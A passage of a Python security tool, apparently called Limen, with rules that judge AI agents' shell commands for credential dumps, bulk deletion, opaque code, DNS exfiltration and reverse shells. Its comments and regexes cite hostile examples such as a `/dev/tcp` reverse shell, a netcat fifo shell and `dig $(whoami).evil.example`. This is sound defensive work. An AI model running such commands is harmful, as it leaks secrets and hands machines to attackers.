    scratch = SCRATCH_DATABASE_NOTE in action.notes  # `RAILS_ENV=test bin/rails runner 'X.delete_all'`
    for note in action.notes:
        if note.startswith(SQL_NOTE) and not scratch and (what := sql_destroys(note[len(SQL_NOTE) :])):
            # a program's database library given `DROP TABLE`: the server it reaches is not shown, so asked
            found = _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 85, f"a program runs {what}")
            if worst is None or (found.verdict, found.risk) > (worst.verdict, worst.risk):
                worst = found
        if note.startswith(BRANCH_DELETED):  # `delete_branch(branch=main)`: what every other one is cut from
            found = _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 85, note[len(BRANCH_DELETED) :])
            if worst is None or (found.verdict, found.risk) > (worst.verdict, worst.risk):
                worst = found
        if note.startswith(DESTROYS_STORE) and action.commands:
            # a program's client library call (`HfApi().delete_repo(r)`): which store it reaches is not shown
            detail = f"a program calls {note[len(DESTROYS_STORE) :]}"
            found = _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 85, detail)
            if worst is None or (found.verdict, found.risk) > (worst.verdict, worst.risk):
                worst = found
        elif note.startswith(DESTROYS_STORE):  # `mcp__redis__flushall`: the tool's name says what it does
            detail = f"a tool that does {note[len(DESTROYS_STORE) :]}"
            # a retention cut (the data ages out) or offsets moved: asked as on a command line
            what = note[len(DESTROYS_STORE) :]
            aged = what in (RETENTION_CUT, OFFSETS_MOVED)
            # a machine or disk deleted: one resource, refused when the arguments name production
            one = what in (
                MACHINE_DESTROYED,
                CONTAINER_DELETED,
                BULK_DELETED,
                TRASH_EMPTIED,
            ) and not PRODUCTION.search(" ".join(str(v)[:200] for v in list(action.arguments.values())[:32]))
            if _on_scratch_database(action):
                continue  # `drop_collection(database="app_dev", ...)`: a development copy's, as SQL's is
            found = _finding(
                ReasonCode.DESTRUCTIVE_COMMAND,
                *((Verdict.AUTH, 65) if aged else (Verdict.AUTH, 80) if one else (Verdict.BLOCK, 94)),
                detail,
            )
            if worst is None or (found.verdict, found.risk) > (worst.verdict, worst.risk):
                worst = found
    download = _download_exec(action) if action.commands else None
    if download is None and ctx.session is not None:
        download = _runs_earlier_fetch(action, ctx)
    if download is not None and official_install(action):
        # rustup, uv, nvm, bun, deno, Homebrew from their own hosts: the documented way to install the tool,
        # ordinary work in light and balanced; asked in strict and paranoid
        strict = ctx.mode.strict_or_above
        download = (
            _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, "runs an official installer")
            if strict
            else None
        )
    if download is not None and (worst is None or worst.verdict < Verdict.BLOCK):
        worst = download
    if worst is not None:
        yield worst


def _runs_earlier_fetch(action: Action, ctx: Context) -> Finding | None:
    """`curl -o /tmp/s.sh URL` in one call, `bash /tmp/s.sh` in the next: the file run is one an earlier call
    of the session downloaded (BLOCK, as the same two in one line are; AUTH for an official installer from
    its own host), or lies in a folder it cloned (AUTH: code from a checkout)."""
    session = ctx.session
    runs = [n[len(RUNS_FILE) :] for n in action.notes if n.startswith(RUNS_FILE)][:16]
    if session is None or not runs:
        return None
    how = max((session.fetched(path) for path in runs), key=("", "folder", "installer", "file").index)
    if how == "file":
        detail = "runs a file an earlier call of this session downloaded"
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 95, detail)
    if how == "installer":  # as `curl https://sh.rustup.rs | sh` in one line: asked
        detail = "runs an official installer an earlier call of this session downloaded"
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, detail)
    if how == "folder":
        detail = "runs code from a repository an earlier call of this session cloned"
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, detail)
    return None


# --------------------------------------------------------------------------- environment_dump_command


# `stty -F /dev/ttyUSB0 115200 raw`: a serial line's settings, not the terminal the agent's shell runs in
_STTY_LINE = re.compile(r"(?:^|\s)(?:-F\s*|--file[=\s])/dev/(?!tty(?:\s|$)|pts/)\S+")
# A device that hands a container the host's disks, memory or kernel log (`--device /dev/sda`, `/dev/mem`);
# a serial port, a GPU or a camera is the device's own use
_HOST_DEVICE = re.compile(
    r"/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|loop|dm-|md\d|mapper/|disk/|mem\b|kmem\b|port\b|kmsg\b|cpu/)"
)
# Groups that give device access and nothing more: joining them is an embedded or desktop set-up step
_DEVICE_GROUPS = frozenset(
    {"dialout", "plugdev", "uucp", "tty", "video", "audio", "input", "render", "lp", "bluetooth", "netdev"}
)


def _device_groups_only(args: list[str] | tuple[str, ...]) -> bool:
    """`usermod -aG dialout,plugdev USER`: supplementary groups added, all of them device groups."""
    words = list(args)
    groups = [words[i + 1] for i, w in enumerate(words[:-1]) if w in ("-G", "-aG", "--groups")]
    options = [w for w in words if w.startswith("-")]
    if not groups or any(w not in ("-a", "-G", "-aG", "--append", "--groups") for w in options):
        return False
    return all(g in _DEVICE_GROUPS for group in groups for g in group.split(","))


def _env_dump(command: Command) -> str:
    name, args = command.name, command.argv[1:]
    if (
        name == "env"
        and all(w.startswith("-") or "=" in w for w in args)
        and not {"-u", "-i", "-"} & set(args)
    ):
        return "env"
    if name == "printenv" and (not _operands(command.argv) or any(secret_variable(w) for w in args)):
        return "printenv"
    bare = name in ("export", "declare", "typeset") and not [w for w in args if not w.startswith("-")]
    if bare and (name == "export" or set("xp") & _short_flags(args)):
        return f"{name} {' '.join(args)}".strip()
    if name == "set" and not args:
        return "set"
    if name == "compgen" and "-v" in args:
        return name
    if (
        name == "ps" and args and re.fullmatch(r"[a-zA-Z]*e[a-zA-Z]*", args[0])
    ):  # BSD `ps eww` prints environments
        return name
    return ""


# Commands that carry data out: those that send it, and name lookups (a query name can carry it too).
_SENDERS = names(Role.SENDS, Role.DNS)
# Commands that narrow what an environment dump prints (and the wrappers and builtins around them).
_FILTERS = names(Role.FILTER, Role.ENV_SETTER, Role.PRIVILEGED)


def _filtered_for_harmless(action: Action, ctx: Context) -> bool:
    """`env | grep DISPLAY`: the dump is narrowed by a search for a name that holds no secret; `env | cut
    -d= -f1`: to the variables' names."""
    from limen.facts.secrets import names_only

    if all(c.name in _FILTERS or _env_dump(c) for c in action.commands) and any(
        names_only(c.argv) for c in action.commands
    ):
        return True
    greps = [c for c in action.commands if c.name in ("grep", "egrep", "fgrep", "rg")]
    if not greps or not all(c.name in _FILTERS or _env_dump(c) for c in action.commands):
        return False
    if any("v" in _short_flags(c.argv[1:]) or "--invert-match" in c.argv for c in greps):
        return False  # `grep -v X` prints everything else
    patterns = [_operands(c.argv)[:1] for c in greps]
    return all(p and not secret_variable(p[0]) and _names_searched(p[0]) for p in patterns)


def _names_searched(pattern: str) -> bool:
    """A search narrowed to some names (`DISPLAY`, `^PATH=`, `KUBE|HELM`, `.*X.*`), not a pattern every
    assignment matches (`^[A-Z_]+=.`: a class of name letters, then the `=` and its value)."""
    return bool(pattern.strip("^$=.*")) and _EVERY_ASSIGNMENT.search(pattern) is None


# A pattern that matches any variable's assignment: a class or `\w` repeated, then `=`
_EVERY_ASSIGNMENT = re.compile(r"(?:\[[^\]]*\]|\\w)[*+]\)?=")


# A variable's value in a word (`$X`, `${X}`, `${X:-default}`); `${#X}` (its length) and `${X:+word}` (a word
# when it is set) print no value
_PRINTED_VARIABLE = re.compile(r"\$(?:\{(?!#)([A-Za-z_]\w*)(?!:?\+)|([A-Za-z_]\w*))")


def _printed_secret_variable(action: Action) -> str:
    """`echo $STRIPE_SECRET_KEY`: the name of a credential variable an `echo` or `printf` prints where the
    agent reads it, the line's other commands only narrowing text; a consumer (`| docker login
    --password-stdin`) or a file (`> .env`) takes the value instead, and is judged as what it is."""
    if not all(c.name in ("echo", "printf") or c.name in _FILTERS for c in action.commands):
        return ""
    for command in action.commands:
        if command.name in ("echo", "printf") and not command.redirects:
            for word in command.argv[1:]:
                for match in _PRINTED_VARIABLE.finditer(word):
                    name = match.group(1) or match.group(2)
                    if secret_variable(name):
                        return name
    return ""


def _code_printed_credential(action: Action) -> str:
    """`python3 -c "print(os.environ['AWS_SECRET_ACCESS_KEY'])"`, `print(settings.SECRET_KEY)`: the name of a
    credential an interpreter's code prints where the agent reads it (`normalize.code.PRINTED_NOTE`), as
    `echo $NAME` prints it."""
    from limen.normalize.code import PRINTED_NOTE

    for note in action.notes:
        if note.startswith(PRINTED_NOTE):
            name = note[len(PRINTED_NOTE) :]
            if secret_variable(name) or not name.isupper():  # (a record's `password` says what it is)
                return name
    return ""


@rule(ReasonCode.ENVIRONMENT_DUMP_COMMAND, needs="commands")
def environment_dump(action: Action, ctx: Context) -> Iterator[Finding]:
    """Printing the whole environment (`env`, `printenv`, `export -p`, `set`, `/proc/*/environ`, an
    interpreter's `os.environ`) or a credential variable (`printenv VAULT_TOKEN`, `echo $STRIPE_SECRET_KEY`):
    AUTH, BLOCK when the same line sends it out. Quiet: reading a variable that holds no secret (`printenv
    HOME`, `echo $SSH_AUTH_SOCK`), a dump narrowed to a harmless name (`env | grep DISPLAY`), a credential
    variable handed to a command that uses it (`echo "$TOKEN" | docker login --password-stdin`)."""
    sends = any(c.name in _SENDERS for c in action.commands)
    printed = _printed_secret_variable(action) or _code_printed_credential(action)
    if printed:
        detail = f"prints ${printed}, a credential"
        yield _finding(ReasonCode.ENVIRONMENT_DUMP_COMMAND, Verdict.AUTH, 60, detail)
        return
    for command in action.commands:
        what = _env_dump(command)
        if what and sends:
            yield _finding(ReasonCode.ENVIRONMENT_DUMP_COMMAND, Verdict.BLOCK, 93, f"{what} output sent out")
            return
        if what and not _filtered_for_harmless(action, ctx):
            yield _finding(
                ReasonCode.ENVIRONMENT_DUMP_COMMAND, Verdict.AUTH, 60, f"{what} prints the environment"
            )
            return
    if action.commands:
        for path in action.paths:
            if path.startswith("/proc/") and _PROC_ENVIRON.fullmatch(path):
                yield _finding(
                    ReasonCode.ENVIRONMENT_DUMP_COMMAND, Verdict.AUTH, 65, "reads a process environment"
                )
                return
        for text in _texts(action):
            if _ENV_CODE.search(text):
                yield _finding(
                    ReasonCode.ENVIRONMENT_DUMP_COMMAND, Verdict.AUTH, 60, "program prints the environment"
                )
                return


# --------------------------------------------------------------------------- bulk_operation


def _in_scope(path: str, ctx: Context) -> bool:
    """Inside the workspace or a scratch directory: bulk work there is ordinary."""
    return is_within(path, ctx.workspace) or in_temporary_folder(path, ctx.home)


def _targeted(command: Command) -> bool:
    """`find DIR -name restore.php`: every name test is literal, so the matches are named, not a sweep."""
    argv = command.argv
    names = [argv[i + 1] for i, w in enumerate(argv[:-1]) if w in ("-name", "-iname")]
    return command.name == "find" and bool(names) and not any(c in n for n in names for c in "*?[")


def _substituted_find_in_scope(command: Command, action: Action, ctx: Context) -> bool:
    """`rm $(find . -name '*.o')`: the list comes from a find that stays in the workspace."""
    words = [w for w in _operands(command.argv) if w.startswith(("$(", "`"))]
    finds = [c for c in action.commands if c.name == "find" and "$()" in c.via]
    return (
        bool(finds)
        and all(re.match(r"^(\$\(|`)\s*find\b", w) for w in words)
        and not any(
            _sweeps(f, action, ctx) or not all(_in_scope(r, ctx) for r in _find_roots(f, action, ctx))
            for f in finds
        )
    )


def _sweeps(command: Command, action: Action, ctx: Context) -> bool:
    """A find over a whole home, system or top-level directory (outside the workspace) with a pattern."""
    return not _targeted(command) and any(
        _is_dangerous(r, action, ctx) and not _in_scope(r, ctx) for r in _find_roots(command, action, ctx)
    )


def _lister_roots(command: Command, action: Action, ctx: Context) -> list[str]:
    if command.name == "find":
        return _find_roots(command, action, ctx)
    operands = _operands(command.argv)
    return [canonical(w, action.cwd or "/", ctx.home) for w in operands] or [action.cwd or ctx.workspace]


def _via_xargs(command: Command) -> bool:
    return any(v in ("xargs", "parallel") for v in command.via)


def _stdin_sources(command: Command) -> set[str]:
    found: set[str] = set()
    for via in command.via:
        if via.startswith("stdin:"):
            found.update(via[6:].split(","))
    return found


@rule(ReasonCode.BULK_OPERATION, needs=("acting", "notes"))
def bulk_operation(action: Action, ctx: Context) -> Iterator[Finding]:
    """Deleting many things at once (at or above the mode's operand threshold) or an unknown list of them
    (`xargs rm`, `rm $(cat list)`), or a tool that is no read told to act on every item it could name
    (`bulk_command(selector="*")`, `delete_devices(filter={"group": "all"})`): AUTH. Quiet: a few named
    files, a tool's call on the items it names."""
    selected = next((n[len(BULK_TARGET) :] for n in action.notes if n.startswith(BULK_TARGET)), "")
    if selected:
        yield _finding(
            ReasonCode.BULK_OPERATION, Verdict.AUTH, 70, f"{action.tool} acts on every item ({selected})"
        )
        return
    for command in action.commands:
        # every item the service itself lists, changed: `aws iot list-certificates ... | xargs -I{} aws iot
        # update-certificate --new-status REVOKED`
        listed = _via_xargs(command) and command.name in _stdin_sources(command)
        entry = program(command.name) if listed else None
        if entry is not None and entry.changes and re.search(entry.changes, " ".join(command.argv[1:])):
            yield _finding(
                ReasonCode.BULK_OPERATION,
                Verdict.AUTH,
                70,
                f"xargs runs a change of {command.name} on every item",
            )
            return
        if command.name in _DELETERS:
            count = len(_operands(command.argv))
            if count >= ctx.bulk_threshold:
                yield _finding(
                    ReasonCode.BULK_OPERATION, Verdict.AUTH, 60, f"{command.name} of {count} operands"
                )
                return
            if _via_xargs(command):
                sources = _stdin_sources(command)
                listers = [c for c in action.commands if c.name in ("find", "ls")]
                scoped = (
                    "find" in sources
                    and "ls" not in sources
                    and all(
                        not _sweeps(c, action, ctx)
                        if c.name == "find"
                        else all(_in_scope(r, ctx) for r in _lister_roots(c, action, ctx))
                        for c in listers
                    )
                )
                static = bool(sources) and sources <= {"echo", "printf", "heredoc", "herestring", "parallel"}
                if not scoped and not static:
                    yield _finding(
                        ReasonCode.BULK_OPERATION,
                        Verdict.AUTH,
                        60,
                        f"xargs {command.name} over an unbounded list",
                    )
                    return
        if command.name == "find" and _find_deletes(command) and _sweeps(command, action, ctx):
            yield _finding(
                ReasonCode.BULK_OPERATION, Verdict.AUTH, 60, "find sweeps a home or system directory"
            )
            return
        if (
            command.name in _DELETERS
            and any(w.startswith(("$(", "`")) for w in _operands(command.argv))
            and not _substituted_find_in_scope(command, action, ctx)
        ):
            yield _finding(
                ReasonCode.BULK_OPERATION, Verdict.AUTH, 60, f"{command.name} of a list built at run time"
            )
            return
    deletes = sum(1 for c in action.commands if c.name in _DELETERS)
    if deletes and len(action.write_paths) >= ctx.bulk_threshold:
        yield _finding(
            ReasonCode.BULK_OPERATION, Verdict.AUTH, 60, f"deletes {len(action.write_paths)} paths"
        )


# --------------------------------------------------------------------------- opaque_command


# Analyser notes that inform rules rather than explain opacity.
_INFO_NOTES = (
    "glob:",
    "socket:",
    "dev_tcp",
    "download_exec",
    "cd:",
    "assign:",
    "parser joined",
    "env override",
    "dns substituted",
    "glob ",
    "xargs with",
    "parallel with",
    "ssh runs a remote",
    "persists:",
)


@rule(ReasonCode.OPAQUE_COMMAND, needs=("acting", "notes"))
def opaque_command(action: Action, ctx: Context) -> Iterator[Finding]:
    """A part of the line whose effect cannot be known statically: code built at run time, `eval` of a
    variable, an interpreter program that does not parse, a script Limen cannot read, a line past a limit:
    AUTH, never PASS. Quiet: set-up lines of known tools (`eval "$(pyenv init -)"`) and programs it
    parsed."""
    dynamic = next(  # an alias may never run; a name in an ssh remote line runs on the other machine
        (c for c in action.commands if c.dynamic_name and "alias" not in c.via and "ssh" not in c.via), None
    )
    if dynamic is not None:
        yield _finding(ReasonCode.OPAQUE_COMMAND, Verdict.AUTH, 70, "command name built at run time")
        return
    if action.opaque and action.commands:
        reasons = [n for n in action.notes if not n.startswith(_INFO_NOTES)]
        if (
            not ctx.mode.strict_or_above
            and reasons
            and _only_runs_what_it_fetched(action, reasons)
            and official_install(action)
        ):
            return  # what runs unread is an official installer from its own host (`destructive_command`'s)
        said = [n for n in reasons if not n.startswith((RUNS_FILE, FETCHED_FILE))]  # not the markers
        yield _finding(ReasonCode.OPAQUE_COMMAND, Verdict.AUTH, 65, (said or reasons or [_UNREAD])[0])
        return
    found = _build_script_run(action, ctx)
    if found:
        yield _finding(ReasonCode.OPAQUE_COMMAND, Verdict.AUTH, 70, found)


def _build_script_run(action: Action, ctx: Context) -> str:
    """A build given a script of its own code to run now (`gradlew build --init-script /tmp/m.gradle`):
    judged as that build file is when written (what the session wrote there, else what is on disk); one
    outside the project that Limen cannot read asks. "" when none, or nothing is wrong with it."""
    from limen.facts.paths import BY_NAME
    from limen.rules.written import current_text, judge_text

    cwd = action.cwd or ctx.workspace or "/"
    for command in action.commands:
        entry = program(command.name)
        if entry is None or not entry.script_options:
            continue
        args = command.argv[1:]
        for i, word in enumerate(args):
            option, _, value = word.partition("=")
            if option not in entry.script_options:
                continue
            value = value or (args[i + 1] if i + 1 < len(args) else "")
            path = canonical(value, cwd, ctx.home)
            text = current_text(path)
            if text is None:
                if not is_within(path, ctx.workspace):
                    return f"{command.name} {option} runs build code Limen cannot read: {value[:80]}"
                continue
            judged = judge_text(BY_NAME["build.gradle"], path, text, action, ctx)
            if judged is not None and judged[0] > Verdict.PASS:
                return f"{command.name} {option} runs build code: {judged[1][:160]}"
    return ""


_UNREAD = "not statically analysable"
_RUNS_DOWNLOAD = re.compile(
    r"^\S+ runs (?:commands|code) from the output of (?:curl|wget)$|^\S+ runs a script from a substitution$"
)


def _only_runs_what_it_fetched(action: Action, reasons: list[str]) -> bool:
    """What makes the line opaque is only the code it downloaded, piped into a shell or saved and run
    (`curl -o /tmp/i.sh URL && bash /tmp/i.sh`), no other file it wrote."""
    fetched = {n[len(FETCHED_FILE) :] for n in action.notes if n.startswith(FETCHED_FILE)}
    ran = {n[len(RUNS_FILE) :] for n in reasons if n.startswith(RUNS_FILE)}
    if any(n.endswith("runs a script from a substitution") for n in reasons) and "download_exec" not in (
        action.notes
    ):
        return False  # (`sh <(curl URL)`: a substitution of a download, not of another program)
    return ran <= fetched and all(
        _RUNS_DOWNLOAD.search(n)
        or n.startswith((RUNS_FILE, FETCHED_FILE))
        or (n.endswith("runs a file the line wrote") and ran)
        for n in reasons
    )


# --------------------------------------------------------------------------- dns_exfiltration


def _entropy(text: str) -> float:
    if not text:
        return 0.0
    counts = {c: text.count(c) for c in set(text)}
    return -sum(n / len(text) * math.log2(n / len(text)) for n in counts.values())


def _suspicious_label(host: str) -> bool:
    labels = host.split(".")
    if len(host) > 120:
        return True
    return any(len(label) >= 24 and _entropy(label) >= 3.5 for label in labels[:-2])


def _decoded_label(host: str) -> str:
    """A label of `host` (below its domain) that is text written in base64, base32 or hex
    (`a2V5LTNmOWExYzdlMmI4ZDRmNjA` is `key-3f9a1c7e2b8d4f60`): data carried in a name, which every resolver on
    the way to the domain's own name server reads. "" for names whose labels decode to no text (a CDN's
    `d1a2b3c4d5e6f7`, a hash)."""
    import base64
    import binascii

    for label in host.split(".")[:-2][:8]:
        if len(label) < 16 or len(label) > 63:
            continue
        decoded: list[bytes] = []
        with suppress(binascii.Error, ValueError):
            decoded.append(base64.urlsafe_b64decode(label + "=" * (-len(label) % 4)))
        with suppress(binascii.Error, ValueError):
            decoded.append(base64.b32decode(label.upper() + "=" * (-len(label) % 8)))
        if len(label) % 2 == 0 and re.fullmatch(r"[0-9a-fA-F]+", label):
            decoded.append(bytes.fromhex(label))
        for data in decoded:
            printable = sum(32 <= b < 127 for b in data)
            letters = sum(chr(b).isalpha() for b in data)
            if len(data) >= 10 and printable >= 0.95 * len(data) and letters >= 4:
                return label
    return ""


def _written_host(dest: Destination) -> str:
    """The host as the URL writes it (its case kept: base64 is written in both), else the normalised one."""
    found = re.match(r"[a-z][\w+.-]*://(?:[^@/\s]*@)?([^/:?#\s]+)", dest.url, re.IGNORECASE)
    return found.group(1) if found and found.group(1).lower() == dest.host else dest.host


@rule(ReasonCode.DNS_EXFILTRATION, needs="destinations")
def encoded_host_label(action: Action, ctx: Context) -> Iterator[Finding]:
    """A request to a host whose name carries encoded text (`https://a2V5LTNm...LmI4.t.dnslog.example/ping`,
    a WebFetch or curl): the lookup alone hands the text to the domain's name server, BLOCK. Quiet: names
    whose labels are words, hashes or a CDN's random identifiers."""
    for dest in action.destinations:
        if dest.host and dest.host.count(".") >= 2 and (label := _decoded_label(_written_host(dest))):
            yield _finding(
                ReasonCode.DNS_EXFILTRATION,
                Verdict.BLOCK,
                92,
                f"encoded text in the host name ({label[:20]}...)",
            )
            return


@rule(ReasonCode.DNS_EXFILTRATION, needs="acting")  # a run-time host name makes no destination
def dns_exfiltration(action: Action, ctx: Context) -> Iterator[Finding]:
    """Data leaving through DNS or a probe: a lookup whose query name is built from a substitution or carries
    a long encoded label (`dig $(whoami).evil.example`), a ping whose packets are padded with a pattern built
    at run time (`ping -p $(xxd -p -l 16 .env) HOST`): BLOCK. Quiet: lookups of plain names, plain pings."""
    for dest in action.destinations:
        if "substituted_label" in dest.flags:
            yield _finding(
                ReasonCode.DNS_EXFILTRATION,
                Verdict.BLOCK,
                93,
                f"{dest.via_command} query name built at run time",
            )
            return
        if dest.via_command in _RESOLVERS and _suspicious_label(dest.host):
            yield _finding(
                ReasonCode.DNS_EXFILTRATION,
                Verdict.BLOCK,
                92,
                f"encoded label in a {dest.via_command} query name",
            )
            return
    for command in action.commands:
        if command.name in _PADDED and _computed_padding(command.argv[1:]):
            # `ping -p $(head -c 16 .env | xxd -p) HOST`: each packet's padding carries the bytes
            yield _finding(
                ReasonCode.DNS_EXFILTRATION, Verdict.BLOCK, 92, "ping's packets carry data built at run time"
            )
            return
        if command.name in _NAME_LOOKUPS:
            for word in command.argv[1:]:
                host = (
                    word.split("://", 1)[1].split("/", 1)[0] if "://" in word[:12] else word.split(":", 1)[0]
                )
                if "/" in _SUBSTITUTED.sub("", host):
                    continue  # `./snapshots/r1-$(date +%F).conf.gz`: a local file's path, no host
                if tenant_host(host):
                    continue  # `https://$ZENDESK_SUBDOMAIN.zendesk.com`: which account, not data in a name
                if re.search(r"(\$\(|`|\$\{?\w).*\.[A-Za-z0-9-]+\.[A-Za-z]{2,}$", host):
                    yield _finding(
                        ReasonCode.DNS_EXFILTRATION, Verdict.BLOCK, 92, "host name built at run time"
                    )
                    return


# Programs whose packets carry a pattern the line gives (`ping -p ff`): given one computed at run time, the
# packets carry whatever it read
_PADDED = frozenset({"ping", "ping6"})


def _computed_padding(args: tuple[str, ...]) -> bool:
    for i, word in enumerate(args):
        value = (
            args[i + 1] if word == "-p" and i + 1 < len(args) else word[2:] if word.startswith("-p") else ""
        )
        if value and ("$" in value or "`" in value):
            return True
    return False


# --------------------------------------------------------------------------- remote_shell


def _shell_reads_socket(action: Action) -> bool:
    """A shell and a raw network tool in one line (`mkfifo f; sh -i <f | nc host port >f`)."""
    if not any(c.name in _NET_TOOLS for c in action.commands):
        return False
    return any(
        _is_shell(c)
        and ("i" in _short_flags(c.argv[1:]) or len(c.argv) == 1 or c.argv[1] in ("-l", "-li", "-il", "-s"))
        for c in action.commands
    )


def _remote_shell_block(action: Action) -> str:
    if "dev_tcp" in action.notes and any(_is_shell(c) or c.name == "exec" for c in action.commands):
        return "shell wired to /dev/tcp"
    for command in action.commands:
        name, argv = command.name, command.argv
        if name in _REMOTE_SHELL_TOOLS:
            return f"{name} is remote-shell tooling"
        if name in ("xterm", "urxvt", "rxvt") and any(
            w in ("-display", "--display") for w in argv
        ):  # a terminal opened on another machine's X server
            return f"{name} -display hands a shell to a remote screen"
        if any(v.endswith(" -e") and v.split()[0] in _NET_TOOLS for v in command.via) and (
            _is_shell(command) or _runs_code(name)
        ):
            return "a network tool hands a shell to the network"
        if name == "socat" and any(re.search(r"(^|[!,])(exec|system):", w, re.I) for w in argv[1:]):
            return "socat exec: hands a shell to the network"
    if _shell_reads_socket(action):
        return "shell piped through a network tool"
    if _socket_and_shell(action):
        return "program opens a socket and starts a shell that reads no command from the call"
    for text in () if _analysed_socket(action) else _texts(action):  # (what it starts is known)
        if _socket_code(text) and _SPAWN_CODE.search(text):
            return "program connects a socket to a shell"
    for note in action.notes:  # what a program reads from its socket is what it runs: `s.print(`#{c}`)`
        if note.startswith(BUILT_COMMAND) and f"socket:{note[len(BUILT_COMMAND) :]}" in action.notes:
            return "program opens a socket and runs commands it builds at run time"
    return ""


def _analysed_socket(action: Action) -> bool:
    """Whether the analysis of a program the line runs found the socket it opens (`socket:python`): what
    the program starts and where it connects are then known, not guessed from its text."""
    return any(note.startswith(FOLLOWED_SOCKET) for note in action.notes)


def _socket_and_shell(action: Action) -> bool:
    """A program that opens a raw socket and starts a shell or an interpreter with nothing to run (no `-c`
    command, no script: `spawn("/bin/sh")`, `Popen(["cmd.exe"])`): the only input it has is what the
    program hands it, and the program's channel is the socket (in any language the analysis reads)."""
    return _analysed_socket(action) and any(
        c.via
        and (len(c.argv) == 1 or _is_shell(c))
        and (_is_shell(c) or _runs_code(c.name))
        and not _operands(c.argv)
        and "c" not in _short_flags(c.argv[1:])
        for c in action.commands
    )


def _ssh_options(argv: tuple[str, ...]) -> list[str]:
    """ssh's own options: the words before the host (what follows is the remote command)."""
    out: list[str] = []
    skip = False
    for word in argv[1:]:
        if skip:
            skip = False
            continue
        if not word.startswith("-"):
            break
        out.append(word)
        skip = word in options("ssh")  # options that take a value
    return out


_FLAGGED = frozenset({"nc", "ncat", "netcat", "script"})  # whose flags `_remote_shell_auth` reads
_TUNNELS = names(Role.TUNNEL)


def _opens_tunnel(name: str, argv: tuple[str, ...]) -> bool:
    entry = program(name)
    if entry is None:
        return False
    return not entry.exposes or re.search(entry.exposes, " ".join(argv[1:])) is not None


def _certificate_check(action: Action) -> bool:
    """`openssl s_client -connect h:443 </dev/null`: every TLS client in the line is given nothing to send
    (the analyser marks its host fetched), so it only shows the peer's certificate."""
    clients = [d for d in action.destinations if d.via_command == "openssl"]
    return bool(clients) and all(FETCHED in d.flags for d in clients)


def _prints_secret(action: Action) -> bool:
    """The line prints a credential (`facts.secrets.printer`: `vault kv get`, `gh auth token`)."""
    from limen.facts.secrets import printer

    return any(printer(command.argv) is not None for command in action.commands)


def _remote_shell_auth(action: Action) -> str:
    if "dev_tcp" in action.notes:
        return "raw /dev/tcp connection"
    for command in action.commands:
        name, argv = command.name, command.argv
        flags = _short_flags(argv[1:]) if name in _FLAGGED or _is_shell(command) else set()
        if name in ("nc", "ncat", "netcat") and ("l" in flags or "--listen" in argv):
            return f"{name} listens for connections"
        if name in ("nc", "ncat", "netcat", "telnet", "ztcp") and _operands(argv):
            if "z" in flags and name != "telnet":
                continue  # `nc -zv db.internal 5432`: is the port open? nothing is sent or received
            reached = [d for d in action.destinations if d.via_command == name]
            if (
                reached
                and all(d.host_class is HostClass.LOOPBACK for d in reached)
                and not flags & {"e", "c"}
                and not _prints_secret(action)
            ):  # `printf 'MSH|...' | nc localhost 6661`: a message to a server on this machine (a login
                # with a secret from a store, `Secret: $(vault kv get ...)`, drives its administration)
                continue
            return f"{name} opens a raw connection"
        if name == "socat" and len(argv) > 2 and not socat_local_only(argv):
            return "socat relays a connection"
        if name == "openssl" and (
            "s_server" in argv or ("s_client" in argv and not _certificate_check(action))
        ):  # a server, or a client that may be fed data (`s_client -connect h:443 </dev/null` only checks)
            return "openssl opens a raw TLS channel"
        if name == "ssh" and (
            {"R", "D"} & _short_flags(_ssh_options(argv)) or "RemoteForward" in " ".join(argv)
        ):
            return "ssh opens a tunnel into this machine"
        if name in _TUNNELS and _opens_tunnel(name, argv):
            return f"{name} puts a local port on the internet"
        if name == "zmodload" and "zsh/net/tcp" in argv:
            return "zsh loads raw TCP sockets"
        if (
            name == "stty"
            and [w for w in argv[1:] if w not in ("-a", "--all", "-g", "--save", "size")]
            and not _STTY_LINE.search(" ".join(argv[1:]))
        ):
            return "stty reconfigures the terminal (shell upgrade)"
        if name == "script" and "c" in flags and any("sh" in w for w in argv[1:]):
            return "script spawns a pty shell"
        if (
            _is_shell(command)
            and "i" in flags
            and "ssh" not in command.via  # `ssh -t host bash -i` is a login session over there
            and not any(v.endswith(" -c") for v in command.via)
        ):
            return "interactive shell"
    for text in _texts(action):
        if "pty.spawn" in text or 'pty").spawn' in text or "pty').spawn" in text:
            return "program spawns a pty shell"
        if _socket_code(text) and not _analysed_socket(action):  # (where it goes: the destination rules')
            return "program opens a raw socket"
    return ""


# Every command `_remote_shell_block` and `_remote_shell_auth` look at by name (shells and interpreters
# aside): a line with none of them, no payload and no /dev/tcp has nothing for them to find.
_REMOTE_SHELL_NAMES = (
    _REMOTE_SHELL_TOOLS
    | _NET_TOOLS
    | _TUNNELS
    | {
        *("xterm", "urxvt", "rxvt", "nc", "ncat", "netcat", "telnet", "ztcp", "socat", "openssl", "ssh"),
        *("zmodload", "stty", "script"),
    }
)


def _may_reach_a_shell(action: Action) -> bool:
    return bool(action.commands) and (
        "dev_tcp" in action.notes
        or bool(action.payloads)
        or any(c.name in _REMOTE_SHELL_NAMES or _is_shell(c) or _runs_code(c.name) for c in action.commands)
        or any(_names_socket(w) for c in action.commands for w in c.argv[1:])
    )


def _names_socket(word: str) -> bool:
    return "/dev/tcp/" in word or "/dev/udp/" in word


# A shell's input and output joined to bash's network path, spelt inside another program's argument (a PBX
# console's `System(...)`, a job's command field): what that program runs is a reverse shell
_EMBEDDED_REVERSE_SHELL = re.compile(
    r"(?:\b(?:ba|z|k|da)?sh\s+-i\b[^\n]{0,40}?|\b(?:exec\s+)?\d*<>)\s*/dev/(?:tcp|udp)/[^/\s]+/\d+"
    r"|/dev/(?:tcp|udp)/[^/\s]+/\d+\s*0?>&\s*1"
)


def _embedded_reverse_shell(action: Action) -> str:
    """The program whose argument spells a reverse shell (`asterisk -rx "... System(bash -i >& /dev/tcp/H/P
    0>&1)"`), or ""."""
    for command in action.commands:
        if any(_names_socket(w) and _EMBEDDED_REVERSE_SHELL.search(w) for w in command.argv[1:]):
            return command.name
    return ""


